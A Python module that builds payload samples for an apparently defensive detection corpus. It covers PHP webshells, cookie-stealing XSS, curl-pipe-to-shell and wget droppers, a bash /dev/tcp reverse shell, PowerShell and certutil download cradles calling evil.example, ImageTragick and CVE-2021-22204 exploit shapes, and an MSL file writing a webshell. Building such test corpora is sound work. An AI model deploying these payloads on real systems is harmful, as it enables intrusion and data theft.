"""Payload makers for the evaluation corpus: what an attacker appends, hides or renames.

Each maker takes a seeded `random.Random` and returns bytes, choosing among several
realistic variants (different PHP webshell idioms, PE with or without a DOS stub, ELF of
several classes and byte orders...), so the corpus measures formats, not one sample.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable

FIXED_TIME = (2024, 3, 4, 5, 6, 8)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DOS_STUB = b"This program cannot be run in DOS mode.\r\r\n$"


def zip_archive(rng: random.Random) -> bytes:
    """A real ZIP with one to three members (stored or deflated, sometimes a comment)."""
    out = io.BytesIO()
    method = rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
    with zipfile.ZipFile(out, "w", method) as archive:
        names = rng.sample(
            ["invoice.exe", "run.bat", "readme.txt", "a.js", "setup.vbs", "x.dll"], 3
        )
        for member in names[: rng.randint(1, 3)]:
            body = (
                rng.randbytes(rng.randint(16, 3000))
                if member.endswith(("exe", "dll"))
                else (b"echo pwned & start calc.exe\r\n" * rng.randint(1, 20))
            )
            archive.writestr(zipfile.ZipInfo(member, FIXED_TIME), body)
        if rng.random() < 0.3:
            archive.comment = b"created by builder"
    return out.getvalue()


def jar_archive(rng: random.Random) -> bytes:
    """A JAR: manifest with Main-Class and a class file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("META-INF/MANIFEST.MF", FIXED_TIME),
            "Manifest-Version: 1.0\nMain-Class: Payload\n",
        )
        klass = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + rng.randbytes(rng.randint(100, 900))
        archive.writestr(zipfile.ZipInfo("Payload.class", FIXED_TIME), klass)
    return out.getvalue()


def pe_executable(rng: random.Random) -> bytes:
    """A PE image: DOS header (+stub), PE header, COFF, optional header, section, code."""
    e_lfanew = rng.choice([0x40, 0x80, 0xB0, 0xE8, 0x100])
    dos = bytearray(e_lfanew)
    dos[0:2] = b"MZ"
    dos[2:4] = b"\x90\x00"
    struct.pack_into("<I", dos, 0x3C, e_lfanew)
    if e_lfanew >= 0x40 + len(DOS_STUB) + 14 and rng.random() < 0.8:
        dos[0x4E : 0x4E + len(DOS_STUB)] = DOS_STUB
    pe64 = rng.random() < 0.5
    machine, opt_size, magic = (0x8664, 0xF0, 0x20B) if pe64 else (0x14C, 0xE0, 0x10B)
    coff = struct.pack("<HHIIIHH", machine, 1, 0x65000000, 0, 0, opt_size, 0x0102)
    optional = struct.pack("<H", magic) + bytes(opt_size - 2)
    section = b".text\x00\x00\x00" + struct.pack("<IIII", 0x1000, 0x1000, 0x200, 0x200) + bytes(16)
    code = rng.randbytes(rng.randint(512, 8192))
    return bytes(dos) + b"PE\x00\x00" + coff + optional + section + code


def elf_executable(rng: random.Random) -> bytes:
    """An ELF header (32/64-bit, little/big endian) followed by code bytes."""
    bits, order, machine = rng.choice([(2, 1, 0x3E), (1, 1, 0x03), (2, 2, 0x2B), (1, 2, 0x08)])
    endian = "<" if order == 1 else ">"
    ident = b"\x7fELF" + bytes([bits, order, 1, 0]) + bytes(8)
    header = ident + struct.pack(endian + "HHI", 2, machine, 1)
    return header + bytes(40) + rng.randbytes(rng.randint(256, 4096))


def macho_executable(rng: random.Random) -> bytes:
    """A Mach-O (thin 64-bit LE, thin 32-bit, or a fat/universal header)."""
    variant = rng.randrange(3)
    body = rng.randbytes(rng.randint(256, 4096))
    if variant == 0:
        return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIII", 0x01000007, 3, 2, 12, 1200) + body
    if variant == 1:
        return b"\xce\xfa\xed\xfe" + struct.pack("<IIIII", 7, 3, 2, 10, 900) + body
    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2)
    fat += struct.pack(">IIIII", 0x01000007, 3, 0x1000, 0x2000, 12)
    fat += struct.pack(">IIIII", 0x0100000C, 0, 0x3000, 0x2000, 14)
    return fat + body


def pdf_document(rng: random.Random) -> bytes:
    """A small PDF with an OpenAction JavaScript."""
    version = rng.choice([b"1.4", b"1.5", b"1.7"])
    return (
        b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"3 0 obj\n<< /S /JavaScript /JS (app.alert\\('hi'\\);) >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


HTML_VARIANTS = (
    b"<html><body><script>document.location='http://evil.example/?c='+document.cookie"
    b"</script></body></html>",
    b'<!DOCTYPE html>\n<html><head><title>x</title></head><body onload="alert(1)"></body></html>',
    b'<script src="https://cdn.evil.example/x.js"></script>',
    b'<iframe src="https://evil.example/login" width=0 height=0></iframe>',
    b"<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    b"<svg/onload=alert(document.domain)>",
    b"<SCRIPT>eval(atob('YWxlcnQoMSk='))</SCRIPT>",
)

JS_VARIANTS = (
    b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');",
    b"eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='));",
    b"fetch('https://evil.example/c?'+document.cookie);",
    b"window.location = 'https://evil.example/phish';",
    b"(function(){var d=document.createElement('script');d.src='//evil.example/a.js';"
    b"document.body.appendChild(d);})();",
)

PHP_VARIANTS = (
    b"<?php system($_GET['cmd']); ?>",
    b"<?php eval($_POST['x']); ?>",
    b"<?php @eval(base64_decode($_REQUEST['p'])); ?>",
    b"<?=`$_GET[0]`?>",
    b"<?PHP\nif(isset($_GET['c'])){ passthru($_GET['c']); }\n?>",
    b"<?php $f = $_FILES['f']; move_uploaded_file($f['tmp_name'], 'x.php'); ?>",
    b"<?php echo shell_exec($_GET['e']); ?>",
    b"<?php\n$x=gzinflate(str_rot13(base64_decode('abcd')));eval($x);",
)


def html_page(rng: random.Random) -> bytes:
    """An HTML/script page in one of several shapes."""
    return rng.choice(HTML_VARIANTS)


def javascript(rng: random.Random) -> bytes:
    """Plain JavaScript (no surrounding HTML)."""
    return rng.choice(JS_VARIANTS)


def php_script(rng: random.Random) -> bytes:
    """A PHP webshell."""
    return rng.choice(PHP_VARIANTS)


def phar_stub(rng: random.Random) -> bytes:
    """A PHAR: stub ending in __HALT_COMPILER(); then a manifest."""
    stub = rng.choice(
        [
            b"<?php __HALT_COMPILER(); ?>\r\n",
            b"<?php Phar::mapPhar('x.phar'); include 'phar://x.phar/index.php'; "
            b"__HALT_COMPILER(); ?>",
        ]
    )
    manifest = struct.pack("<IIHI", 80, 1, 0x1100, 0x10000) + b"\x00\x00\x00\x00"
    return stub + manifest + b"index.php" + rng.randbytes(40)


def shell_script(rng: random.Random) -> bytes:
    """A Unix shell dropper."""
    return rng.choice(
        [
            b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n",
            b"#!/usr/bin/env bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
            b"#!/bin/bash\nwget -q http://evil.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\n",
            b"curl -fsSL https://evil.example/install.sh | bash\n",
        ]
    )


def powershell_script(rng: random.Random) -> bytes:
    """A PowerShell download cradle or encoded command."""
    return rng.choice(
        [
            b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n",
            b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\r\n",
            b"Invoke-Expression (Invoke-WebRequest -Uri https://evil.example/p -UseBasicParsing)",
            b"$c = [System.Convert]::FromBase64String('AAAA'); "
            b"[System.Reflection.Assembly]::Load($c)\r\n",
            b"Start-Process -WindowStyle Hidden cmd.exe -ArgumentList '/c calc'\r\n",
        ]
    )


def vbs_script(rng: random.Random) -> bytes:
    """A VBScript dropper."""
    return rng.choice(
        [
            b'Set o = CreateObject("WScript.Shell")\r\no.Run "cmd /c calc.exe", 0\r\n',
            b'CreateObject("WScript.Shell").Run "calc.exe", 0, False\r\n',
            b'Dim http\r\nSet http = CreateObject("MSXML2.XMLHTTP")\r\n'
            b'http.Open "GET", "http://evil.example/a.exe", False\r\nhttp.Send\r\n',
            b"On Error Resume Next\r\nExecute(Chr(77) & Chr(115) & Chr(103))\r\n",
        ]
    )


def batch_script(rng: random.Random) -> bytes:
    """A Windows batch dropper."""
    return rng.choice(
        [
            b"@echo off\r\nstart /b calc.exe\r\ndel %~f0\r\n",
            b'@echo off\r\npowershell -w hidden -c "iwr http://evil.example/a -o a.exe"\r\n',
            b'cmd /c "certutil -urlcache -split -f http://evil.example/a.exe a.exe && a.exe"\r\n',
            b"@ECHO OFF\r\nset p=%TEMP%\\a.exe\r\n"
            b"bitsadmin /transfer j http://evil.example/a %p%\r\n"
            b'start "" %p%\r\n',
        ]
    )


def rar_archive(rng: random.Random) -> bytes:
    """A RAR 4 or RAR 5 signature with a header-shaped body."""
    signature = rng.choice([b"Rar!\x1a\x07\x00", b"Rar!\x1a\x07\x01\x00"])
    return signature + rng.randbytes(rng.randint(200, 3000))


def sevenzip_archive(rng: random.Random) -> bytes:
    """A 7-Zip signature header followed by packed bytes."""
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + rng.randbytes(rng.randint(200, 3000))


def eicar(rng: random.Random) -> bytes:
    """The EICAR anti-virus test string (sometimes with a line ending)."""
    return EICAR + rng.choice([b"", b"\r\n", b"\n"])


def random_blob(rng: random.Random) -> bytes:
    """High-entropy bytes, at least 1 KiB (an encrypted second stage)."""
    return rng.randbytes(rng.randint(1024, 64 * 1024))


TRAILER_PAYLOADS: dict[str, Callable[[random.Random], bytes]] = {
    "zip": zip_archive,
    "jar": jar_archive,
    "pe": pe_executable,
    "elf": elf_executable,
    "macho": macho_executable,
    "pdf": pdf_document,
    "html": html_page,
    "js": javascript,
    "php": php_script,
    "phar": phar_stub,
    "shell": shell_script,
    "powershell": powershell_script,
    "vbs": vbs_script,
    "batch": batch_script,
    "rar": rar_archive,
    "7z": sevenzip_archive,
    "eicar": eicar,
    "blob": random_blob,
}

# What hides in metadata: text payloads fit every field, binary ones only binary-safe fields.
TEXT_METADATA_PAYLOADS: dict[str, Callable[[random.Random], bytes]] = {
    "php": php_script,
    "script": lambda rng: rng.choice(
        [b"<script>alert(document.cookie)</script>", b"<script src=//evil.example/x.js></script>"]
    ),
    "html": html_page,
}
BINARY_METADATA_PAYLOADS: dict[str, Callable[[random.Random], bytes]] = {
    **TEXT_METADATA_PAYLOADS,
    "pe": pe_executable,
    "zip": zip_archive,
    "pdf": pdf_document,
}


# --- whole files that are not images ------------------------------------------------------


def lnk_shortcut(rng: random.Random) -> bytes:
    """A Windows shell link header (ShellLinkHeader, 76 bytes) plus a target path."""
    header = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
    header += struct.pack("<II", 0x0000009B, 0x20) + bytes(24) + struct.pack("<IIII", 0, 1, 0, 0)
    header = header.ljust(76, b"\x00")
    target = "C:\\Windows\\System32\\cmd.exe /c powershell -w hidden".encode("utf-16-le")
    return header + struct.pack("<H", len(target) // 2) + target + rng.randbytes(32)


def postscript(rng: random.Random) -> bytes:
    """PostScript that runs a command (Ghostscript -dSAFER bypass shape)."""
    return rng.choice(
        [
            b"%!PS-Adobe-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id) (w) file\nshowpage\n",
            b"%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\n",
        ]
    )


def djvu(rng: random.Random) -> bytes:
    """A DjVu file whose ANTa chunk carries the CVE-2021-22204 metadata shape."""
    annotation = b'(metadata\n    (Copyright "\\\n" . qx{echo vulnerable > /tmp/x} . \\\n" b ") )'
    chunk = b"ANTa" + struct.pack(">I", len(annotation)) + annotation
    info = b"INFO" + struct.pack(">I", 10) + struct.pack(">HHBBHB", 100, 100, 24, 0, 300, 22)[:10]
    body = b"DJVU" + info + chunk
    return b"AT&TFORM" + struct.pack(">I", len(body)) + body + rng.randbytes(0)


def mvg(rng: random.Random) -> bytes:
    """ImageMagick MVG (ImageTragick)."""
    return rng.choice(
        [
            b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|"
            b'curl "evil.example/x.sh" | sh")\'\npop graphic-context\n',
            b"viewbox 0 0 1 1\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\n",
            b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'msl:/tmp/x.msl'\n"
            b"pop graphic-context\n",
        ]
    )


def msl(rng: random.Random) -> bytes:
    """ImageMagick Scripting Language that writes a file."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<image>\n'
        b'<read filename="caption:&lt;?php system($_GET[c]); ?&gt;" />\n'
        b'<write filename="/var/www/html/shell.php" />\n</image>\n'
    )


def svg_with_script(rng: random.Random) -> bytes:
    """An SVG whose job is to run script."""
    return rng.choice(
        [
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>fetch('//evil.example/'+document.cookie)</script></svg>",
        ]
    )


NON_IMAGES: dict[str, Callable[[random.Random], bytes]] = {
    "pe": pe_executable,
    "elf": elf_executable,
    "macho": macho_executable,
    "zip": zip_archive,
    "jar": jar_archive,
    "rar": rar_archive,
    "7z": sevenzip_archive,
    "pdf": pdf_document,
    "postscript": postscript,
    "djvu": djvu,
    "mvg": mvg,
    "msl": msl,
    "html": html_page,
    "php": php_script,
    "svg-script": svg_with_script,
    "lnk": lnk_shortcut,
    "shell": shell_script,
    "powershell": powershell_script,
    "vbs": vbs_script,
    "batch": batch_script,
    "js": javascript,
    "eicar": eicar,
}
